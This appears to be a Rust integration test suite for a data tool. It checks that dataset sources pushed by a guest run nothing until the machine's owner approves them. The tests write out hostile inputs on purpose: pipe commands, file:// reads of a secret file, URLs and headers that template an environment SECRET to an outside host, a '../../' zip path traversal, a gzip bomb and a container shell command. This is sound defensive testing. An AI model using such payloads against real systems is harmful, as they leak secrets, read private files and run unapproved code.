//! What strangers can make this machine do: nothing that its owner has not approved.
//!
//! An owner who runs a node, a guest who holds a token, and whoever reaches the port. The guest pushes, for every kind of
//! source and step, a dataset whose source would do harm where the owner pulls it.

mod addresses;
mod port;

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use interop_tests::process::{Finished, Running, run};
use interop_tests::site::Site;
use interop_tests::workspace::LIMIT;
use interop_tests::workspace::dataset::table;
use interop_tests::{Node, Outcome, Workspace};

/// Exit codes, as `odfs --help` lists them.
const BAD_INPUT: i32 = 5;
const REFUSED: i32 = 7;
const NOT_APPROVED: i32 = 17;

/// A step that unpacks.
const UNGZIP: &str = "{kind: Decompress, format: Gzip}";

/// When the pages of sites changed.
const MODIFIED: &str = "Sun, 04 Jan 2026 00:00:00 GMT";

/// A manifest whose source is `fetch` and `prepare`, in YAML on one line each.
fn manifest(name: &str, fetch: &str, prepare: &str) -> String {
    format!(
        "kind: DatasetSnapshot\nversion: 1\ncontent:\n  name: {name}\n  kind: Root\n  metadata:\n    - kind: SetPollingSource\n      \
         fetch: {fetch}\n      prepare: {prepare}\n      read: {{kind: Csv, header: true, schema: {{fields: [{{name: id, type: \
         Int64}}, {{name: city, type: String}}]}}}}\n      merge: {{kind: Append}}\n"
    )
}

/// Fails unless a command ended so, and spoke of all of `words`.
fn says(finished: &Finished, code: i32, words: &[&str]) -> Outcome {
    let missing: Vec<_> = words.iter().filter(|word| !finished.stderr.contains(**word)).collect();
    if finished.code() != Some(code) || !missing.is_empty() {
        return Err(finished.failure(&format!("should have ended with {code}, speaking of {missing:?}")));
    }
    Ok(())
}

/// An owner with a node, and a guest who knows its repository as `there`.
struct Stage {
    owner: Workspace,
    guest: Workspace,
    node: Node,
    /// Of the repository.
    url: String,
}

impl Stage {
    /// The guest's token has these verbs for all datasets.
    fn new(verbs: &str) -> Outcome<Self> {
        let (owner, guest) = (Workspace::new()?, Workspace::new()?);
        let token = owner.odfs(["repo", "token", "add", "guest", "--can", verbs])?.text();
        let node = owner.node()?;
        let url = format!("odf+{}/", node.gateway);
        guest.odfs(["repo", "add", "there", &url, "--token", &token])?;
        Ok(Self {
            owner,
            guest,
            node,
            url,
        })
    }

    /// Pushes a dataset of that id whose only blocks are a Seed and the source, over whatever is there.
    fn push_source(&self, id: &str, fetch: &str, prepare: &str) -> Outcome<Finished> {
        self.guest.write("evil.yaml", manifest("evil", fetch, prepare))?;
        self.guest
            .odfs(["--yes", "add", "--replace", "evil.yaml", "--dataset-id", id])?;
        self.guest
            .run(["push", "evil", "--to", "there/t", "--force", "--no-alias"])
    }
}

/// A dataset `t` that the owner published, and its id.
fn published(owner: &Workspace) -> Outcome<String> {
    owner.write("t.csv", table(10))?;
    owner.publish(&["t.csv", "--name", "t"])?;
    let listed = owner.odfs(["list", "--wide"])?.json()?;
    Ok(listed[0]["ID"].as_str().unwrap_or_default().to_owned())
}

#[test]
fn no_source_that_was_pushed_acts_before_its_owner_agrees() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let owner = &stage.owner;
    let id = published(owner)?;
    let (home, secret) = (owner.path(), owner.write("secret.csv", "id,city\n1,s3cret\n")?);
    let ran = home.join("ran");
    let catching = Site::at("127.0.0.1:0")?;
    catching.put("/x.csv", b"id,city\n1,Oslo\n".to_vec(), MODIFIED);
    let touch = format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display());
    let harmless = catching.url("/x.csv");
    let cases = [
        // Each fetch kind and step, with what is said of it.
        (
            format!("{{kind: Url, url: '{harmless}'}}"),
            touch.clone(),
            "runs the command `touch",
        ),
        (
            "{kind: Url, url: 'https://data.example/x.csv'}".to_owned(),
            touch.clone(),
            "runs the command `touch",
        ),
        (
            format!("{{kind: Url, url: 'file://{}'}}", secret.display()),
            "[]".to_owned(),
            "reads files of this machine",
        ),
        (
            format!("{{kind: FilesGlob, path: '{}/sec*.csv'}}", home.display()),
            "[]".to_owned(),
            "reads files of this machine",
        ),
        (
            format!("{{kind: Url, url: '{harmless}'}}"),
            "[]".to_owned(),
            "reaches 127.0.0.1",
        ),
        // To unpack needs no approval of its own; what is unpacked, and what comes behind it, does.
        (
            format!("{{kind: Url, url: '{harmless}'}}"),
            format!("[{UNGZIP}]"),
            "reaches 127.0.0.1",
        ),
        (
            format!("{{kind: Url, url: 'file://{}'}}", secret.display()),
            "[{kind: Decompress, format: Zip, subPath: '../../secret.csv'}]".to_owned(),
            "reads files of this machine",
        ),
        (
            format!("{{kind: FilesGlob, path: '{}/sec*.csv'}}", home.display()),
            format!("[{UNGZIP}, {}", &touch[1..]),
            "runs the command `touch",
        ),
        (
            "{kind: Url, url: 'https://data.example/x.csv.gz'}".to_owned(),
            format!("[{UNGZIP}, {}", &touch[1..]),
            "runs the command `touch",
        ),
        (
            format!("{{kind: Url, url: '{harmless}?key=${{{{ env.SECRET }}}}'}}"),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            "{kind: Url, url: 'https://data.example/?key=${{ env.SECRET }}'}".to_owned(),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            "{kind: Url, url: 'https://data.example/', headers: [{name: x-key, value: '${{ env.SECRET }}'}]}"
                .to_owned(),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            format!("{{kind: Url, url: \"${{{{ 'file://{}' }}}}\"}}", secret.display()),
            "[]".to_owned(),
            "has templates",
        ),
    ];
    for (fetch, prepare, words) in &cases {
        stage.push_source(&id, fetch, prepare)?.success()?;
        // Nobody is at the terminal, and yes to everything is no approval either.
        for args in [&["pull", "--all"][..], &["--yes", "pull", "--all"]] {
            let mut command = owner.command(args)?;
            command.env("SECRET", "s3cret");
            says(&run(command, LIMIT)?, 0, &["`odfs approve t`", words])?;
        }
        let mut command = owner.command(["--yes", "pull", "t"])?;
        command.env("SECRET", "s3cret");
        says(&run(command, LIMIT)?, NOT_APPROVED, &["odfs approve t", words])?;
        says(&owner.run(["approve", "t"])?, REFUSED, &[words, "not confirmed"])?;
        assert!(!ran.exists(), "{fetch} {prepare}");
        assert_eq!(catching.asked(), [] as [&str; 0], "{fetch} {prepare}");
        let log = owner.odfs(["log", "t"])?.json()?;
        assert_eq!(log.as_array().map(Vec::len), Some(2), "{fetch}: something was taken");
    }
    let written = owner.odfs(["repo", "log"])?.json()?;
    let rows = written.as_array().map(Vec::as_slice).unwrap_or_default();
    assert_eq!(rows.len(), cases.len());
    for row in rows {
        assert_eq!(
            (&row["Token"], &row["Verb"], &row["Dataset"]),
            (&"guest".into(), &"rewrite".into(), &"t".into())
        );
    }
    // What its owner approves runs, and the next change of the source waits again.
    let (fetch, prepare, _) = &cases[0];
    stage.push_source(&id, fetch, prepare)?.success()?;
    owner.odfs(["--yes", "approve", "t"])?;
    // `touch` gives no rows, which is an input like any other; what counts is that it ran.
    let _ = owner.run(["pull", "t"])?;
    assert!(ran.exists() && !catching.asked().is_empty());
    fs::remove_file(&ran)?;
    stage.push_source(&id, fetch, prepare)?.success()?;
    says(&owner.run(["pull", "t"])?, NOT_APPROVED, &["odfs approve t"])?;
    assert!(!ran.exists());
    stage.node.stop().map(drop)
}

#[test]
fn an_archive_that_was_pushed_fills_no_disk() -> Outcome {
    /// More than an archive of this length may become.
    const UNPACKED_MIB: u64 = 300;
    let stage = Stage::new("pull,push,create,rewrite")?;
    let owner = &stage.owner;
    let id = published(owner)?;
    let site = Site::at("127.0.0.1:0")?;
    let mut packed = flate2::write::GzEncoder::new(b"".to_vec(), flate2::Compression::best());
    packed.write_all(b"id,city\n")?;
    let row = format!("1,{}\n", "x".repeat((1 << 20) - 3));
    for _ in 0..UNPACKED_MIB {
        packed.write_all(row.as_bytes())?;
    }
    site.put("/bomb.csv.gz", packed.finish()?, MODIFIED);
    let fetch = format!("{{kind: Url, url: '{}'}}", site.url("/bomb.csv.gz"));
    stage.push_source(&id, &fetch, &format!("[{UNGZIP}]"))?.success()?;
    owner.odfs(["--yes", "approve", "t"])?;
    let refused = owner.run(["pull", "t"])?;
    says(
        &refused,
        BAD_INPUT,
        &["bomb.csv.gz", "source.unpackRatio", "nothing was taken"],
    )?;
    assert_eq!(owner.odfs(["log", "t"])?.json()?.as_array().map(Vec::len), Some(2));
    // What the message names helps whoever means it.
    owner.odfs(["config", "set", "source.unpackRatio", "2000"])?;
    owner.odfs(["pull", "t"])?;
    assert_eq!(owner.dataset("t")?.records, UNPACKED_MIB);
    stage.node.stop().map(drop)
}

#[test]
fn kinds_of_sources_that_are_not_supported_do_nothing() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let id = published(&stage.owner)?;
    let ran = stage.owner.path().join("ran");
    let touch = format!("[{UNGZIP}, {{kind: Pipe, command: [touch, '{}']}}]", ran.display());
    for (fetch, words) in [
        (
            "{kind: Container, image: evil, command: [sh, -c, 'touch ran']}",
            "runs no containers",
        ),
        ("{kind: Mqtt, host: 127.0.0.1, port: 1, topics: [{path: x}]}", "MQTT"),
        (
            "{kind: EthereumLogs, chainId: 1, nodeUrl: 'http://127.0.0.1:1/', signature: 'X()'}",
            "Ethereum",
        ),
    ] {
        for prepare in ["[]", &touch] {
            stage.push_source(&id, fetch, prepare)?.success()?;
            // Nor does an approval make it do something.
            for approve in [false, true] {
                if approve {
                    let _ = stage.owner.run(["--yes", "approve", "t"])?;
                }
                let finished = stage.owner.run(["--yes", "pull", "t"])?;
                let failed = !matches!(finished.code(), None | Some(0));
                // What its step would do is said first, where it has one that needs an approval.
                let said = |words: &str| finished.stderr.contains(words);
                let asks = prepare != "[]" && said("odfs approve t");
                assert!(failed && (said(words) || asks), "{fetch}: {}", finished.stderr);
            }
            assert!(!ran.exists(), "{fetch}");
            assert_eq!(
                stage.owner.odfs(["log", "t"])?.json()?.as_array().map(Vec::len),
                Some(2)
            );
        }
    }
    stage.node.stop().map(drop)
}

#[test]
fn a_source_waits_by_whatever_way_it_came() -> Outcome {
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    let touch = format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display());
    other.write("m.yaml", manifest("t", "{kind: FilesGlob, path: '*.csv'}", &touch))?;
    other.odfs(["add", "m.yaml"])?;
    let node = other.node()?;
    let name = other.odfs(["list", "--wide"])?.json()?[0]["IPNS"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    other.odfs(["push", "t"])?;
    let there = other.path().join("there");
    other.odfs(["push", "t", "--to", &format!("file://{}", there.display())])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    let ways = [
        format!("ipns://{name}"),
        format!("odf+{}/t", node.gateway),
        format!("{}/t", node.gateway),
        format!("file://{}", there.display()),
    ];
    for way in &ways {
        owner.odfs(["pull", way, "--as", "t", "--no-alias", "--peer", &node.address])?;
        says(
            &owner.run(["--yes", "pull", "t"])?,
            NOT_APPROVED,
            &["touch", "odfs approve t"],
        )?;
        says(&owner.run(["pull", "--all"])?, 0, &["odfs approve t"])?;
        assert!(!ran.exists(), "{way}");
        owner.odfs(["--yes", "delete", "t"])?;
    }
    node.stop().map(drop)
}

#[test]
fn a_transform_that_was_pushed_reads_nothing_hidden_unasked() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let owner = &stage.owner;
    owner.write("diary.csv", "id,city\n1,s3cret\n")?;
    let add = |workspace: &Workspace, name: &str, content: String, more: &[&str]| {
        workspace.write(name, content)?;
        workspace.odfs([&["add", name][..], more].concat()).map(drop)
    };
    let manifest = |name: &str, event: &str| {
        format!("kind: DatasetSnapshot\nversion: 1\ncontent:\n  name: {name}\n  kind: {event}\n")
    };
    let push = "Root\n  metadata:\n    - kind: AddPushSource\n      sourceName: default\n      read: {kind: Csv, header: true, schema: \
                {fields: [{name: id, type: Int64}, {name: city, type: String}]}}\n      merge: {kind: Append}";
    add(owner, "diary.yaml", manifest("diary", push), &[])?;
    owner.odfs(["ingest", "diary", "diary.csv"])?;
    let diary = owner.odfs(["list", "--wide"])?.json()?[0]["ID"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    // The guest has a dataset of that id too, so that a transform can name it.
    add(
        &stage.guest,
        "diary.yaml",
        manifest("diary", push),
        &["--dataset-id", &diary],
    )?;
    let transform = "Derivative\n  metadata:\n    - kind: SetTransform\n      inputs: [{datasetRef: diary, alias: diary}]\n      \
                     transform: {kind: Sql, engine: datafusion, query: 'select event_time, id, city from diary'}";
    add(&stage.guest, "spy.yaml", manifest("spy", transform), &[])?;
    stage.guest.odfs(["push", "spy", "--to", "there/spy"])?;
    for args in [&["pull", "--all"][..], &["--yes", "pull", "--all"]] {
        says(
            &owner.run(args)?,
            0,
            &["`odfs approve spy`", "reads diary, which is not shared"],
        )?;
    }
    says(
        &owner.run(["--yes", "pull", "spy"])?,
        NOT_APPROVED,
        &["odfs approve spy"],
    )?;
    assert_eq!(owner.dataset("spy")?.records, 0);
    // What is shared may be computed with, and so may what its owner agrees to.
    owner.odfs(["share", "diary"])?;
    owner.odfs(["pull", "spy"])?;
    assert_eq!(owner.dataset("spy")?.records, 1);
    owner.odfs(["share", "--stop", "diary"])?;
    owner.write("more.csv", "id,city\n2,more\n")?;
    owner.odfs(["ingest", "diary", "more.csv"])?;
    says(&owner.run(["pull", "spy"])?, NOT_APPROVED, &["reads diary"])?;
    owner.odfs(["--yes", "approve", "spy"])?;
    owner.odfs(["pull", "spy"])?;
    assert_eq!(owner.dataset("spy")?.records, 2);
    // The owner's own needs no more than to be added.
    add(owner, "own.yaml", manifest("own", transform), &[])?;
    owner.odfs(["pull", "own"])?;
    assert_eq!(owner.dataset("own")?.records, 2);
    stage.node.stop().map(drop)
}

#[test]
fn what_was_pulled_waits_also_where_the_key_is_here() -> Outcome {
    // The same key in two places, as a laptop and a server of one person have it; one of them was broken into.
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    other.write(
        "evil.yaml",
        manifest(
            "t",
            "{kind: FilesGlob, path: '*.csv'}",
            &format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display()),
        ),
    )?;
    other.odfs(["add", "evil.yaml"])?;
    other.odfs(["key", "export", "t", "-o", "t.key"])?;
    let there = owner.path().join("there");
    let url = format!("file://{}", there.display());
    other.odfs(["push", "t", "--to", &url])?;
    let key = other.path().join("t.key").display().to_string();
    owner.odfs(["key", "import", "t", &key])?;
    owner.odfs(["pull", &url, "--as", "t", "--no-alias"])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    says(&owner.run(["pull", "t"])?, NOT_APPROVED, &["touch", "odfs approve t"])?;
    says(&owner.run(["--yes", "pull", "--all"])?, 0, &["odfs approve t"])?;
    assert!(!ran.exists());
    // Approvals outlive the index, and belong to this machine alone.
    owner.odfs(["--yes", "approve", "t"])?;
    fs::remove_dir_all(owner.store().join("store"))?;
    let listed = owner.odfs(["approve", "--list"])?.json()?;
    assert_eq!(
        (&listed[0]["Name"], &listed[0]["State"]),
        (&"t".into(), &"approved".into())
    );
    let out = owner.path().join("out");
    owner.odfs(["push", "t", "--to", &format!("file://{}", out.display())])?;
    assert!(!holds(&out, "approved")?);
    Ok(())
}

/// Whether a directory holds a file whose name begins so.
fn holds(dir: &Path, name: &str) -> Outcome<bool> {
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        if entry.file_name().to_string_lossy().starts_with(name)
            || (entry.path().is_dir() && holds(&entry.path(), name)?)
        {
            return Ok(true);
        }
    }
    Ok(false)
}

#[test]
fn a_person_at_a_terminal_is_asked() -> Outcome {
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    let touch = format!("[{{kind: Pipe, command: [sh, -c, 'cat; touch {}']}}]", ran.display());
    other.write("m.yaml", manifest("t", "{kind: FilesGlob, path: '*.csv'}", &touch))?;
    other.odfs(["add", "m.yaml"])?;
    let there = format!("file://{}", owner.path().join("there").display());
    other.odfs(["push", "t", "--to", &there])?;
    owner.odfs(["pull", &there, "--as", "t", "--no-alias"])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    let Some(no) = on_terminal(&owner, "pull t", "n\n")? else {
        return Ok(());
    };
    assert!(
        no.code() == Some(NOT_APPROVED) && no.text().contains("runs the command"),
        "{}",
        no.text()
    );
    let no = on_terminal(&owner, "approve t", "n\n")?;
    assert!(no.is_some_and(|no| no.code() == Some(REFUSED) && no.text().contains("Approve it?")));
    assert!(!ran.exists());
    let yes = on_terminal(&owner, "pull t", "y\n")?;
    assert!(yes.is_some_and(|yes| yes.code() == Some(0)));
    assert!(ran.exists() && owner.dataset("t")?.records == 1);
    // Once is enough.
    owner.write("y.csv", "id,city\n2,Rome\n")?;
    owner.odfs(["pull", "t"])?;
    assert_eq!(owner.dataset("t")?.records, 2);
    Ok(())
}

/// Runs odfs with a terminal of its own, and an answer typed there; nothing where no program gives it one.
fn on_terminal(workspace: &Workspace, args: &str, typed: &str) -> Outcome<Option<Finished>> {
    if Command::new("script").arg("--version").output().is_err() {
        interop_tests::peers::skip("there is no `script` (util-linux) to make a terminal with");
        return Ok(None);
    }
    let odfs = workspace.command([] as [&str; 0])?;
    let mut command = Command::new("script");
    command
        .args([
            "-qec",
            &format!("'{}' {args}", odfs.get_program().to_string_lossy()),
            "/dev/null",
        ])
        .current_dir(workspace.path())
        .env_clear()
        .envs(odfs.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let (running, input) = Running::start_fed(command, Stdio::piped())?;
    let mut input = input.ok_or("no standard input")?;
    input.write_all(typed.as_bytes())?;
    let finished = running.finish(Duration::from_secs(60))?;
    drop(input);
    Ok(Some(finished))
}
